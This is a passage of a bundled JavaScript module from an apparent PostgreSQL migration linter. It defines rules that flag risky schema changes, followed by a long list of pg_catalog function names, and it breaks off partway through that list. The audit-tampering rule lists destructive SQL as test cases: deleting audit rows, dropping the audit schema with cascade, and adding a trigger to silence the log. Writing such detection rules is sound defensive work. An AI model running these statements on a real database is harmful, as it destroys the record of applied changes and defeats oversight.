import { n as objectName, r as sizedName, t as lockModes } from "./effect-P5EDmj4t.js";
import { a as isOptionOn, c as nodesAs, d as tokensOf, i as hasTag, l as optionNamed, n as childrenOf, o as namesOf, r as constantText, s as nodeAs, t as transactionKindOf, u as someNode } from "./transaction-kind-BvyH4pwC.js";
import { a as relationKey, i as relationAt, n as forgetNames, o as schemaAfter, r as movesNames, s as schemaOf, t as findRelation } from "./schema-BDXONlHP.js";
import { i as writeIdentifier, n as quoteLiteral, r as quoteName } from "./quote-lgey2vti.js";
/** The items by what they have in common, each group in their order. */
function grouped(items, keyOf) {
	const groups = /* @__PURE__ */ new Map();
	for (const item of items) {
		const key = keyOf(item);
		const group = groups.get(key);
		if (group === void 0) groups.set(key, [item]);
		else group.push(item);
	}
	return groups;
}
/** A rule; its id is its file name, kebab-case, and is never used again for another meaning. */
function defineRule(definition) {
	const { id } = definition;
	if (!isRuleId(id)) throw new TypeError(`A rule id is in kebab-case: ${id}`);
	return {
		...definition,
		id
	};
}
function isRuleId(text) {
	return /^[a-z]+(?:-[a-z]+)*$/.test(text);
}
/** The effects of one kind. */
function ofKind(effects, kind) {
	return (byKindOf(effects).get(kind) ?? []).filter((effect) => effect.kind === kind);
}
/** Many rules ask about the same effects. */
const known$2 = /* @__PURE__ */ new WeakMap();
function byKindOf(effects) {
	const found = known$2.get(effects) ?? grouped(effects, ({ kind }) => kind);
	known$2.set(effects, found);
	return found;
}
/** Names the table of an object, and tells it from those of the same name in other schemas. */
function tableOf$1({ schema = "", name }) {
	return `${schema}.${name}`;
}
/** Names the statement of an effect among all statements of the change. */
function statementOf$1({ unitId, statement }) {
	return `${statement} ${unitId}`;
}
/** The tables that the change creates for certain, by the names under which it does. */
function createdTables(effects) {
	const created = ofKind(effects, "creates").filter(({ object }) => object.createdHere);
	return new Set(created.filter(({ object }) => object.kind === "table").map(({ object }) => tableOf$1(object)));
}
/**
* Effects on tables that the change makes unless they are there already, where no facts know them. What
* costs time on a large table most likely meets an empty one there; what destroys may meet any.
*/
function onPerhapsNew(effects) {
	return onTablesMade(effects, ({ ifNotExists }) => ifNotExists);
}
/** Effects on tables that are new for certain. */
function onNewTables(effects) {
	return onTablesMade(effects, ({ ifNotExists, object }) => !ifNotExists && object.createdHere);
}
function onTablesMade(effects, makes) {
	const tables = /* @__PURE__ */ new Set();
	const found = /* @__PURE__ */ new Set();
	for (const effect of effects) {
		const object = "object" in effect ? effect.object : void 0;
		if (object === void 0) continue;
		if (effect.kind === "creates" && object.kind === "table" && makes(effect)) tables.add(tableOf$1(object));
		else if (isOtherNow(effect)) tables.delete(tableOf$1(object));
		else if (object.size === void 0 && tables.has(tableOf$1(object))) found.add(effect);
	}
	return found;
}
/** From here on the name may mean another table. */
function isOtherNow(effect) {
	if (effect.kind === "drops") return effect.object.part === void 0;
	return effect.kind === "alters" && ["rename", "set-schema"].includes(effect.change);
}
/** A table as people write it. */
function writtenTable({ schema, name }) {
	return schema === void 0 ? name : `${schema}.${name}`;
}
/** Whether a name as it is written may mean this relation. */
function mayMean(written, known) {
	if (written.name !== known.name) return false;
	return written.schema === void 0 || known.schema === void 0 || written.schema === known.schema;
}
/** Finds those that names as they are written may mean, in their own order and each once. */
function meantBy(items) {
	const byName = grouped(items.entries(), ([, { table }]) => table.name);
	return (written) => {
		const meant = written.flatMap((one) => (byName.get(one.name) ?? []).filter(([, { table }]) => mayMean(one, table)));
		return [...new Set(meant)].toSorted(([one], [other]) => one - other).map(([, item]) => item);
	};
}
/** Of those that say the same about the same table the first: statements repeat themselves. */
function eachTableOnce(items) {
	return [...grouped(items, ({ table }) => tableOf$1(table)).values()].flatMap(([first]) => first ?? []);
}
/** The objects of one kind that the change creates for certain, as people write them. */
function createdObjects(effects, kind) {
	const created = ofKind(effects, "creates").filter(({ object }) => object.createdHere);
	return new Set(created.filter(({ object }) => object.kind === kind).map(({ object }) => writtenTable(object)));
}
/** Says that the facts made a difference, where they know how big the object is. */
function factsOn(object) {
	return (object.size?.rows ?? -1) < 0 ? {} : { usesFacts: true };
}
/** Effects on what a statement names itself; indirect-write speaks of the others. */
function isNamed$1({ through }) {
	return through === void 0;
}
const alterColumnType = defineRule({
	id: "alter-column-type",
	axis: "data-loss",
	title: "The type of a column changes",
	why: "The table is usually rewritten while nobody can read it, and a narrower type or USING can lose values.",
	instead: "Add a column of the new type, fill it in batches, switch the clients, then drop the old one.",
	invalid: [{
		sql: "alter table users alter column id type bigint",
		level: "high",
		message: "Changes the type of column users.id."
	}],
	valid: ["create table scratch (id int); alter table scratch alter column id type bigint"],
	check: ({ effects }) => {
		const rewritten = new Set(ofKind(effects, "rewrites").map(tableIn$2));
		return ofKind(effects, "alters").filter(({ change, object }) => change === "column-type" && !object.createdHere).map((effect) => {
			const message = `Changes the type of ${objectName(effect.object)}`;
			return rewritten.has(tableIn$2(effect)) ? {
				effect,
				level: "high",
				message: `${message}.`,
				destructive: true
			} : {
				effect,
				level: "low",
				message: `${message}; its rows stay as they are.`,
				usesFacts
			};
		});
	}
});
const usesFacts = true;
function tableIn$2(effect) {
	return JSON.stringify([statementOf$1(effect), effect.object.name]);
}
const auditTampering = defineRule({
	id: "audit-tampering",
	axis: "concealment",
	title: "Sluice’s own ledger is touched",
	why: "The record of what was applied must not be changed by what is applied.",
	instead: "Leave the schema sluice alone.",
	invalid: [
		{
			sql: "delete from sluice.audit where id = 1",
			level: "critical",
			message: "Touches table sluice.audit, which keeps the record of applied changes."
		},
		{
			sql: "drop schema sluice cascade",
			level: "critical",
			message: "Touches schema sluice, which keeps the record of applied changes."
		},
		{
			sql: "create trigger quiet before insert on sluice.audit for each row execute function f()",
			level: "critical",
			message: "Touches trigger sluice.audit.quiet, which keeps the record of applied changes."
		}
	],
	valid: ["create table sluices (id int)"],
	check: ({ effects }) => effects.flatMap((effect) => {
		const object = touchedObject(effect);
		if (object === void 0 || !isLedger(object)) return [];
		return [{
			effect,
			level: "critical",
			message: `Touches ${objectName(object)}, which keeps the record of applied changes.`,
			destructive: true,
			denies: true
		}];
	})
});
/** What others see of a lock is reported by what takes it. */
function touchedObject(effect) {
	if (effect.kind === "locks" || effect.kind === "scans" || effect.kind === "rewrites") return void 0;
	return "object" in effect ? effect.object : void 0;
}
function isLedger({ kind, schema, name }) {
	return schema === "sluice" || kind === "schema" && name === "sluice";
}
/**
* The functions of pg_catalog on PostgreSQL 14, 15, 16, 17, 18, as their own catalogs list them; written by
* scripts/builtin-functions.mjs. What the volatile ones do is said in server-functions.data.ts.
*/
const words$3 = (text) => text.split(/\s+/).filter((word) => word !== "");
/** Those of which every overload is stable or immutable on every major, and constructs of the grammar. */
const steady = words$3(`
  coalesce greatest least nullif
  abbrev abs aclcontains acldefault aclexplode aclinsert aclitemeq aclitemin aclitemout aclremove
  acos acosd acosh age any_in any_out any_value any_value_transfn anyarray_in anyarray_out
  anyarray_recv anyarray_send anycompatible_in anycompatible_out anycompatiblearray_in
  anycompatiblearray_out anycompatiblearray_recv anycompatiblearray_send
  anycompatiblemultirange_in anycompatiblemultirange_out anycompatiblenonarray_in
  anycompatiblenonarray_out anycompatiblerange_in anycompatiblerange_out anyelement_in
  anyelement_out anyenum_in anyenum_out anymultirange_in anymultirange_out anynonarray_in
  anynonarray_out anyrange_in anyrange_out anytextcat area areajoinsel areasel array_agg
  array_agg_array_combine array_agg_array_deserialize array_agg_array_finalfn
  array_agg_array_serialize array_agg_array_transfn array_agg_combine array_agg_deserialize
  array_agg_finalfn array_agg_serialize array_agg_transfn array_append array_append_support
  array_cat array_dims array_eq array_fill array_ge array_gt array_in array_larger array_le
  array_length array_lower array_lt array_ndims array_ne array_out array_position array_positions
  array_prepend array_prepend_support array_recv array_remove array_replace array_reverse
  array_send array_smaller array_sort array_subscript_handler array_subscript_handler_support
  array_to_json array_to_string array_to_tsvector array_typanalyze array_unnest_support
  array_upper arraycontained arraycontains arraycontjoinsel arraycontsel arrayoverlap ascii asin
  asind asinh atan atan2 atan2d atand atanh avg big5_to_euc_tw big5_to_mic big5_to_utf8 bit
  bit_and bit_count bit_in bit_length bit_or bit_out bit_recv bit_send bit_xor bitand bitcat
  bitcmp biteq bitge bitgt bitle bitlt bitne bitnot bitor bitshiftleft bitshiftright bittypmodin
  bittypmodout bitxor bool bool_accum bool_accum_inv bool_alltrue bool_and bool_anytrue bool_or
  booland_statefunc booleq boolge boolgt boolin boolle boollt boolne boolor_statefunc boolout
  boolrecv boolsend bound_box box box_above box_above_eq box_add box_below box_below_eq box_center
  box_contain box_contain_pt box_contained box_distance box_div box_eq box_ge box_gt box_in
  box_intersect box_le box_left box_lt box_mul box_out box_overabove box_overbelow box_overlap
  box_overleft box_overright box_recv box_right box_same box_send box_sub bpchar bpchar_larger
  bpchar_pattern_ge bpchar_pattern_gt bpchar_pattern_le bpchar_pattern_lt bpchar_smaller
  bpchar_sortsupport bpcharcmp bpchareq bpcharge bpchargt bpchariclike bpcharicnlike
  bpcharicregexeq bpcharicregexne bpcharin bpcharle bpcharlike bpcharlt bpcharne bpcharnlike
  bpcharout bpcharrecv bpcharregexeq bpcharregexne bpcharsend bpchartypmodin bpchartypmodout
  brin_bloom_add_value brin_bloom_consistent brin_bloom_opcinfo brin_bloom_options
  brin_bloom_summary_in brin_bloom_summary_out brin_bloom_summary_recv brin_bloom_summary_send
  brin_bloom_union brin_inclusion_add_value brin_inclusion_consistent brin_inclusion_opcinfo
  brin_inclusion_union brin_minmax_add_value brin_minmax_consistent brin_minmax_multi_add_value
  brin_minmax_multi_consistent brin_minmax_multi_distance_date brin_minmax_multi_distance_float4
  brin_minmax_multi_distance_float8 brin_minmax_multi_distance_inet
  brin_minmax_multi_distance_int2 brin_minmax_multi_distance_int4 brin_minmax_multi_distance_int8
  brin_minmax_multi_distance_interval brin_minmax_multi_distance_macaddr
  brin_minmax_multi_distance_macaddr8 brin_minmax_multi_distance_numeric
  brin_minmax_multi_distance_pg_lsn brin_minmax_multi_distance_tid brin_minmax_multi_distance_time
  brin_minmax_multi_distance_timestamp brin_minmax_multi_distance_timetz
  brin_minmax_multi_distance_uuid brin_minmax_multi_opcinfo brin_minmax_multi_options
  brin_minmax_multi_summary_in brin_minmax_multi_summary_out brin_minmax_multi_summary_recv
  brin_minmax_multi_summary_send brin_minmax_multi_union brin_minmax_opcinfo brin_minmax_union
  broadcast btarraycmp btboolcmp btboolskipsupport btbpchar_pattern_cmp
  btbpchar_pattern_sortsupport btcharcmp btcharskipsupport btequalimage btfloat48cmp btfloat4cmp
  btfloat4sortsupport btfloat84cmp btfloat8cmp btfloat8sortsupport btint24cmp btint28cmp btint2cmp
  btint2skipsupport btint2sortsupport btint42cmp btint48cmp btint4cmp btint4skipsupport
  btint4sortsupport btint82cmp btint84cmp btint8cmp btint8skipsupport btint8sortsupport btnamecmp
  btnamesortsupport btnametextcmp btoidcmp btoidskipsupport btoidsortsupport btoidvectorcmp
  btrecordcmp btrecordimagecmp btrim bttext_pattern_cmp bttext_pattern_sortsupport bttextcmp
  bttextnamecmp bttextsortsupport bttidcmp btvarstrequalimage bytea bytea_larger bytea_smaller
  bytea_sortsupport bytea_string_agg_finalfn bytea_string_agg_transfn byteacat byteacmp byteaeq
  byteage byteagt byteain byteale bytealike bytealt byteane byteanlike byteaout bytearecv
  byteasend cardinality casefold cash_cmp cash_div_cash cash_div_flt4 cash_div_flt8 cash_div_int2
  cash_div_int4 cash_div_int8 cash_eq cash_ge cash_gt cash_in cash_le cash_lt cash_mi
  cash_mul_flt4 cash_mul_flt8 cash_mul_int2 cash_mul_int4 cash_mul_int8 cash_ne cash_out cash_pl
  cash_recv cash_send cash_words cashlarger cashsmaller cbrt ceil ceiling center char char_length
  character_length chareq charge chargt charin charle charlt charne charout charrecv charsend chr
  cideq cidin cidout cidr cidr_in cidr_out cidr_recv cidr_send cidrecv cidsend circle circle_above
  circle_add_pt circle_below circle_center circle_contain circle_contain_pt circle_contained
  circle_distance circle_div_pt circle_eq circle_ge circle_gt circle_in circle_le circle_left
  circle_lt circle_mul_pt circle_ne circle_out circle_overabove circle_overbelow circle_overlap
  circle_overleft circle_overright circle_recv circle_right circle_same circle_send circle_sub_pt
  close_lb close_ls close_lseg close_pb close_pl close_ps close_sb close_sl col_description concat
  concat_ws contjoinsel contsel convert convert_from convert_to corr cos cosd cosh cot cotd count
  covar_pop covar_samp crc32 crc32c cstring_in cstring_out cstring_recv cstring_send cume_dist
  cume_dist_final current_database current_schema current_schemas current_setting current_user
  database_to_xml database_to_xml_and_xmlschema database_to_xmlschema date date_add date_bin
  date_cmp date_cmp_timestamp date_cmp_timestamptz date_eq date_eq_timestamp date_eq_timestamptz
  date_ge date_ge_timestamp date_ge_timestamptz date_gt date_gt_timestamp date_gt_timestamptz
  date_in date_larger date_le date_le_timestamp date_le_timestamptz date_lt date_lt_timestamp
  date_lt_timestamptz date_mi date_mi_interval date_mii date_ne date_ne_timestamp
  date_ne_timestamptz date_out date_part date_pl_interval date_pli date_recv date_send
  date_skipsupport date_smaller date_sortsupport date_subtract date_trunc datemultirange daterange
  daterange_canonical daterange_subdiff datetime_pl datetimetz_pl dcbrt decode degrees dense_rank
  dense_rank_final dexp diagonal diameter dispell_init dispell_lexize dist_bl dist_bp dist_bs
  dist_cpoint dist_cpoly dist_lb dist_lp dist_ls dist_pathp dist_pb dist_pc dist_pl dist_polyc
  dist_polyp dist_ppath dist_ppoly dist_ps dist_sb dist_sl dist_sp div dlog1 dlog10 domain_in
  domain_recv dpow dround dsimple_init dsimple_lexize dsqrt dsynonym_init dsynonym_lexize dtrunc
  elem_contained_by_multirange elem_contained_by_range elem_contained_by_range_support encode
  enum_cmp enum_eq enum_first enum_ge enum_gt enum_in enum_larger enum_last enum_le enum_lt
  enum_ne enum_out enum_range enum_recv enum_send enum_smaller eqjoinsel eqsel erf erfc
  euc_cn_to_mic euc_cn_to_utf8 euc_jis_2004_to_shift_jis_2004 euc_jis_2004_to_utf8 euc_jp_to_mic
  euc_jp_to_sjis euc_jp_to_utf8 euc_kr_to_mic euc_kr_to_utf8 euc_tw_to_big5 euc_tw_to_mic
  euc_tw_to_utf8 event_trigger_in event_trigger_out every exp extract factorial family
  fdw_handler_in fdw_handler_out first_value float4 float48div float48eq float48ge float48gt
  float48le float48lt float48mi float48mul float48ne float48pl float4_accum float4abs float4div
  float4eq float4ge float4gt float4in float4larger float4le float4lt float4mi float4mul float4ne
  float4out float4pl float4recv float4send float4smaller float4um float4up float8 float84div
  float84eq float84ge float84gt float84le float84lt float84mi float84mul float84ne float84pl
  float8_accum float8_avg float8_combine float8_corr float8_covar_pop float8_covar_samp
  float8_regr_accum float8_regr_avgx float8_regr_avgy float8_regr_combine float8_regr_intercept
  float8_regr_r2 float8_regr_slope float8_regr_sxx float8_regr_sxy float8_regr_syy
  float8_stddev_pop float8_stddev_samp float8_var_pop float8_var_samp float8abs float8div float8eq
  float8ge float8gt float8in float8larger float8le float8lt float8mi float8mul float8ne float8out
  float8pl float8recv float8send float8smaller float8um float8up floor flt4_mul_cash flt8_mul_cash
  fmgr_c_validator fmgr_internal_validator fmgr_sql_validator format format_type gamma
  gb18030_to_utf8 gbk_to_utf8 gcd generate_series generate_series_int4_support
  generate_series_int8_support generate_series_numeric_support generate_series_timestamp_support
  generate_subscripts get_bit get_byte get_current_ts_config getdatabaseencoding getpgusername
  gin_cmp_prefix gin_cmp_tslexeme gin_compare_jsonb gin_consistent_jsonb gin_consistent_jsonb_path
  gin_extract_jsonb gin_extract_jsonb_path gin_extract_jsonb_query gin_extract_jsonb_query_path
  gin_extract_tsquery gin_extract_tsvector gin_triconsistent_jsonb gin_triconsistent_jsonb_path
  gin_tsquery_consistent gin_tsquery_triconsistent ginarrayconsistent ginarrayextract
  ginarraytriconsistent ginqueryarrayextract gist_box_consistent gist_box_distance
  gist_box_penalty gist_box_picksplit gist_box_same gist_box_union gist_circle_compress
  gist_circle_consistent gist_circle_distance gist_point_compress gist_point_consistent
  gist_point_distance gist_point_fetch gist_point_sortsupport gist_poly_compress
  gist_poly_consistent gist_poly_distance gist_translate_cmptype_common gtsquery_compress
  gtsquery_consistent gtsquery_penalty gtsquery_picksplit gtsquery_same gtsquery_union
  gtsvector_compress gtsvector_consistent gtsvector_decompress gtsvector_options gtsvector_penalty
  gtsvector_picksplit gtsvector_same gtsvector_union gtsvectorin gtsvectorout
  has_any_column_privilege has_column_privilege has_database_privilege
  has_foreign_data_wrapper_privilege has_function_privilege has_language_privilege
  has_largeobject_privilege has_parameter_privilege has_schema_privilege has_sequence_privilege
  has_server_privilege has_table_privilege has_tablespace_privilege has_type_privilege
  hash_aclitem hash_aclitem_extended hash_array hash_array_extended hash_multirange
  hash_multirange_extended hash_numeric hash_numeric_extended hash_range hash_range_extended
  hash_record hash_record_extended hashbool hashboolextended hashbpchar hashbpcharextended
  hashbytea hashbyteaextended hashchar hashcharextended hashcid hashcidextended hashdate
  hashdateextended hashenum hashenumextended hashfloat4 hashfloat4extended hashfloat8
  hashfloat8extended hashinet hashinetextended hashint2 hashint2extended hashint4 hashint4extended
  hashint8 hashint8extended hashmacaddr hashmacaddr8 hashmacaddr8extended hashmacaddrextended
  hashname hashnameextended hashoid hashoidextended hashoidvector hashoidvectorextended hashtext
  hashtextextended hashtid hashtidextended hashvarlena hashvarlenaextended hashxid hashxid8
  hashxid8extended hashxidextended height host hostmask iclikejoinsel iclikesel icnlikejoinsel
  icnlikesel icregexeqjoinsel icregexeqsel icregexnejoinsel icregexnesel icu_unicode_version
  in_range index_am_handler_in index_am_handler_out inet_client_addr inet_client_port
  inet_gist_compress inet_gist_consistent inet_gist_fetch inet_gist_penalty inet_gist_picksplit
  inet_gist_same inet_gist_union inet_in inet_merge inet_out inet_recv inet_same_family inet_send
  inet_server_addr inet_server_port inet_spg_choose inet_spg_config inet_spg_inner_consistent
  inet_spg_leaf_consistent inet_spg_picksplit inetand inetmi inetmi_int8 inetnot inetor inetpl
  initcap int2 int24div int24eq int24ge int24gt int24le int24lt int24mi int24mul int24ne int24pl
  int28div int28eq int28ge int28gt int28le int28lt int28mi int28mul int28ne int28pl int2_accum
  int2_accum_inv int2_avg_accum int2_avg_accum_inv int2_mul_cash int2_sum int2abs int2and int2div
  int2eq int2ge int2gt int2in int2int4_sum int2larger int2le int2lt int2mi int2mod int2mul int2ne
  int2not int2or int2out int2pl int2recv int2send int2shl int2shr int2smaller int2um int2up
  int2vectorin int2vectorout int2vectorrecv int2vectorsend int2xor int4 int42div int42eq int42ge
  int42gt int42le int42lt int42mi int42mul int42ne int42pl int48div int48eq int48ge int48gt
  int48le int48lt int48mi int48mul int48ne int48pl int4_accum int4_accum_inv int4_avg_accum
  int4_avg_accum_inv int4_avg_combine int4_mul_cash int4_sum int4abs int4and int4div int4eq int4ge
  int4gt int4in int4inc int4larger int4le int4lt int4mi int4mod int4mul int4multirange int4ne
  int4not int4or int4out int4pl int4range int4range_canonical int4range_subdiff int4recv int4send
  int4shl int4shr int4smaller int4um int4up int4xor int8 int82div int82eq int82ge int82gt int82le
  int82lt int82mi int82mul int82ne int82pl int84div int84eq int84ge int84gt int84le int84lt
  int84mi int84mul int84ne int84pl int8_accum int8_accum_inv int8_avg int8_avg_accum
  int8_avg_accum_inv int8_avg_combine int8_avg_deserialize int8_avg_serialize int8_mul_cash
  int8_sum int8abs int8and int8dec int8dec_any int8div int8eq int8ge int8gt int8in int8inc
  int8inc_any int8inc_float8_float8 int8inc_support int8larger int8le int8lt int8mi int8mod
  int8mul int8multirange int8ne int8not int8or int8out int8pl int8pl_inet int8range
  int8range_canonical int8range_subdiff int8recv int8send int8shl int8shr int8smaller int8um
  int8up int8xor integer_pl_date inter_lb inter_sb inter_sl internal_in internal_out interval
  interval_accum interval_accum_inv interval_avg interval_avg_accum interval_avg_accum_inv
  interval_avg_combine interval_avg_deserialize interval_avg_serialize interval_cmp
  interval_combine interval_div interval_eq interval_ge interval_gt interval_hash
  interval_hash_extended interval_in interval_larger interval_le interval_lt interval_mi
  interval_mul interval_ne interval_out interval_pl interval_pl_date interval_pl_time
  interval_pl_timestamp interval_pl_timestamptz interval_pl_timetz interval_recv interval_send
  interval_smaller interval_sum interval_support interval_um intervaltypmodin intervaltypmodout
  is_normalized isclosed isempty isfinite ishorizontal iso8859_1_to_utf8 iso8859_to_utf8
  iso_to_koi8r iso_to_mic iso_to_win1251 iso_to_win866 isopen isparallel isperp isvertical
  johab_to_utf8 json_agg json_agg_finalfn json_agg_strict json_agg_strict_transfn json_agg_transfn
  json_array_element json_array_element_text json_array_elements json_array_elements_text
  json_array_length json_build_array json_build_object json_each json_each_text json_extract_path
  json_extract_path_text json_in json_object json_object_agg json_object_agg_finalfn
  json_object_agg_strict json_object_agg_strict_transfn json_object_agg_transfn
  json_object_agg_unique json_object_agg_unique_strict json_object_agg_unique_strict_transfn
  json_object_agg_unique_transfn json_object_field json_object_field_text json_object_keys
  json_out json_populate_record json_populate_recordset json_recv json_send json_strip_nulls
  json_to_record json_to_recordset json_to_tsvector json_typeof jsonb_agg jsonb_agg_finalfn
  jsonb_agg_strict jsonb_agg_strict_transfn jsonb_agg_transfn jsonb_array_element
  jsonb_array_element_text jsonb_array_elements jsonb_array_elements_text jsonb_array_length
  jsonb_build_array jsonb_build_object jsonb_cmp jsonb_concat jsonb_contained jsonb_contains
  jsonb_delete jsonb_delete_path jsonb_each jsonb_each_text jsonb_eq jsonb_exists jsonb_exists_all
  jsonb_exists_any jsonb_extract_path jsonb_extract_path_text jsonb_ge jsonb_gt jsonb_hash
  jsonb_hash_extended jsonb_in jsonb_insert jsonb_le jsonb_lt jsonb_ne jsonb_object
  jsonb_object_agg jsonb_object_agg_finalfn jsonb_object_agg_strict
  jsonb_object_agg_strict_transfn jsonb_object_agg_transfn jsonb_object_agg_unique
  jsonb_object_agg_unique_strict jsonb_object_agg_unique_strict_transfn
  jsonb_object_agg_unique_transfn jsonb_object_field jsonb_object_field_text jsonb_object_keys
  jsonb_out jsonb_path_exists jsonb_path_exists_opr jsonb_path_exists_tz jsonb_path_match
  jsonb_path_match_opr jsonb_path_match_tz jsonb_path_query jsonb_path_query_array
  jsonb_path_query_array_tz jsonb_path_query_first jsonb_path_query_first_tz jsonb_path_query_tz
  jsonb_populate_record jsonb_populate_record_valid jsonb_populate_recordset jsonb_pretty
  jsonb_recv jsonb_send jsonb_set jsonb_set_lax jsonb_strip_nulls jsonb_subscript_handler
  jsonb_to_record jsonb_to_recordset jsonb_to_tsvector jsonb_typeof jsonpath_in jsonpath_out
  jsonpath_recv jsonpath_send justify_days justify_hours justify_interval koi8r_to_iso
  koi8r_to_mic koi8r_to_utf8 koi8r_to_win1251 koi8r_to_win866 koi8u_to_utf8 lag
  language_handler_in language_handler_out last_value latin1_to_mic latin2_to_mic
  latin2_to_win1250 latin3_to_mic latin4_to_mic lcm lead left length lgamma like like_escape
  likejoinsel likesel line line_distance line_eq line_horizontal line_in line_interpt
  line_intersect line_out line_parallel line_perp line_recv line_send line_vertical ln log log10
  lower lower_inc lower_inf lpad lseg lseg_center lseg_distance lseg_eq lseg_ge lseg_gt
  lseg_horizontal lseg_in lseg_interpt lseg_intersect lseg_le lseg_length lseg_lt lseg_ne lseg_out
  lseg_parallel lseg_perp lseg_recv lseg_send lseg_vertical ltrim macaddr macaddr8 macaddr8_and
  macaddr8_cmp macaddr8_eq macaddr8_ge macaddr8_gt macaddr8_in macaddr8_le macaddr8_lt macaddr8_ne
  macaddr8_not macaddr8_or macaddr8_out macaddr8_recv macaddr8_send macaddr8_set7bit macaddr_and
  macaddr_cmp macaddr_eq macaddr_ge macaddr_gt macaddr_in macaddr_le macaddr_lt macaddr_ne
  macaddr_not macaddr_or macaddr_out macaddr_recv macaddr_send macaddr_sortsupport make_date
  make_interval make_time make_timestamp make_timestamptz makeaclitem masklen matchingjoinsel
  matchingsel max md5 mic_to_big5 mic_to_euc_cn mic_to_euc_jp mic_to_euc_kr mic_to_euc_tw
  mic_to_iso mic_to_koi8r mic_to_latin1 mic_to_latin2 mic_to_latin3 mic_to_latin4 mic_to_sjis
  mic_to_win1250 mic_to_win1251 mic_to_win866 min min_scale mod mode mode_final money
  mul_d_interval multirange multirange_adjacent_multirange multirange_adjacent_range
  multirange_after_multirange multirange_after_range multirange_agg_finalfn multirange_agg_transfn
  multirange_before_multirange multirange_before_range multirange_cmp
  multirange_contained_by_multirange multirange_contained_by_range multirange_contains_elem
  multirange_contains_multirange multirange_contains_range multirange_eq multirange_ge
  multirange_gist_compress multirange_gist_consistent multirange_gt multirange_in
  multirange_intersect multirange_intersect_agg_transfn multirange_le multirange_lt
  multirange_minus multirange_ne multirange_out multirange_overlaps_multirange
  multirange_overlaps_range multirange_overleft_multirange multirange_overleft_range
  multirange_overright_multirange multirange_overright_range multirange_recv multirange_send
  multirange_typanalyze multirange_union multirangesel mxid_age name nameconcatoid nameeq
  nameeqtext namege namegetext namegt namegttext nameiclike nameicnlike nameicregexeq
  nameicregexne namein namele nameletext namelike namelt namelttext namene namenetext namenlike
  nameout namerecv nameregexeq nameregexne namesend neqjoinsel neqsel netmask network network_cmp
  network_eq network_ge network_gt network_larger network_le network_lt network_ne network_overlap
  network_smaller network_sortsupport network_sub network_subeq network_subset_support network_sup
  network_supeq networkjoinsel networksel nlikejoinsel nlikesel normalize notlike now npoints
  nth_value ntile num_nonnulls num_nulls numeric numeric_abs numeric_accum numeric_accum_inv
  numeric_add numeric_avg numeric_avg_accum numeric_avg_combine numeric_avg_deserialize
  numeric_avg_serialize numeric_cmp numeric_combine numeric_deserialize numeric_div
  numeric_div_trunc numeric_eq numeric_exp numeric_ge numeric_gt numeric_in numeric_inc
  numeric_larger numeric_le numeric_ln numeric_log numeric_lt numeric_mod numeric_mul numeric_ne
  numeric_out numeric_pl_pg_lsn numeric_poly_avg numeric_poly_combine numeric_poly_deserialize
  numeric_poly_serialize numeric_poly_stddev_pop numeric_poly_stddev_samp numeric_poly_sum
  numeric_poly_var_pop numeric_poly_var_samp numeric_power numeric_recv numeric_send
  numeric_serialize numeric_smaller numeric_sortsupport numeric_sqrt numeric_stddev_pop
  numeric_stddev_samp numeric_sub numeric_sum numeric_support numeric_uminus numeric_uplus
  numeric_var_pop numeric_var_samp numerictypmodin numerictypmodout nummultirange numnode numrange
  numrange_subdiff obj_description octet_length oid oideq oidge oidgt oidin oidlarger oidle oidlt
  oidne oidout oidrecv oidsend oidsmaller oidvectoreq oidvectorge oidvectorgt oidvectorin
  oidvectorle oidvectorlt oidvectorne oidvectorout oidvectorrecv oidvectorsend oidvectortypes
  on_pb on_pl on_ppath on_ps on_sb on_sl ordered_set_transition ordered_set_transition_multi
  overlaps overlay parse_ident path path_add path_add_pt path_center path_contain_pt path_distance
  path_div_pt path_in path_inter path_length path_mul_pt path_n_eq path_n_ge path_n_gt path_n_le
  path_n_lt path_npoints path_out path_recv path_send path_sub_pt pclose percent_rank
  percent_rank_final percentile_cont percentile_cont_float8_final
  percentile_cont_float8_multi_final percentile_cont_interval_final
  percentile_cont_interval_multi_final percentile_disc percentile_disc_final
  percentile_disc_multi_final pg_available_extension_versions pg_available_extensions
  pg_backend_pid pg_backup_start_time pg_basetype pg_char_to_encoding pg_client_encoding
  pg_collation_for pg_collation_is_visible pg_column_compression pg_column_is_updatable
  pg_column_size pg_column_toast_chunk_id pg_conf_load_time pg_config pg_conversion_is_visible
  pg_current_snapshot pg_current_xact_id pg_current_xact_id_if_assigned pg_cursor
  pg_ddl_command_in pg_ddl_command_out pg_ddl_command_recv pg_ddl_command_send pg_dependencies_in
  pg_dependencies_out pg_dependencies_recv pg_dependencies_send pg_describe_object
  pg_encoding_max_length pg_encoding_to_char pg_event_trigger_ddl_commands
  pg_event_trigger_dropped_objects pg_event_trigger_table_rewrite_oid
  pg_event_trigger_table_rewrite_reason pg_extension_update_paths pg_filenode_relation
  pg_function_is_visible pg_get_acl pg_get_catalog_foreign_keys pg_get_constraintdef pg_get_expr
  pg_get_function_arg_default pg_get_function_arguments pg_get_function_identity_arguments
  pg_get_function_result pg_get_function_sqlbody pg_get_functiondef pg_get_indexdef
  pg_get_keywords pg_get_object_address pg_get_partition_constraintdef pg_get_partkeydef
  pg_get_publication_tables pg_get_replica_identity_index pg_get_replication_slots pg_get_ruledef
  pg_get_serial_sequence pg_get_statisticsobjdef pg_get_statisticsobjdef_columns
  pg_get_statisticsobjdef_expressions pg_get_triggerdef pg_get_userbyid pg_get_viewdef pg_has_role
  pg_identify_object pg_identify_object_as_address pg_index_column_has_property
  pg_index_has_property pg_indexam_has_property pg_indexam_progress_phasename pg_input_error_info
  pg_input_is_valid pg_is_other_temp_schema pg_listening_channels pg_lsn pg_lsn_cmp pg_lsn_eq
  pg_lsn_ge pg_lsn_gt pg_lsn_hash pg_lsn_hash_extended pg_lsn_in pg_lsn_larger pg_lsn_le pg_lsn_lt
  pg_lsn_mi pg_lsn_mii pg_lsn_ne pg_lsn_out pg_lsn_pli pg_lsn_recv pg_lsn_send pg_lsn_smaller
  pg_mcv_list_in pg_mcv_list_items pg_mcv_list_out pg_mcv_list_recv pg_mcv_list_send
  pg_my_temp_schema pg_ndistinct_in pg_ndistinct_out pg_ndistinct_recv pg_ndistinct_send
  pg_node_tree_in pg_node_tree_out pg_node_tree_recv pg_node_tree_send pg_numa_available
  pg_opclass_is_visible pg_operator_is_visible pg_opfamily_is_visible pg_options_to_table
  pg_partition_root pg_postmaster_start_time pg_prepared_statement pg_relation_filenode
  pg_relation_filepath pg_relation_is_publishable pg_relation_is_updatable
  pg_replication_origin_oid pg_sequence_parameters pg_settings_get_flags pg_show_all_settings
  pg_size_bytes pg_size_pretty pg_snapshot_in pg_snapshot_out pg_snapshot_recv pg_snapshot_send
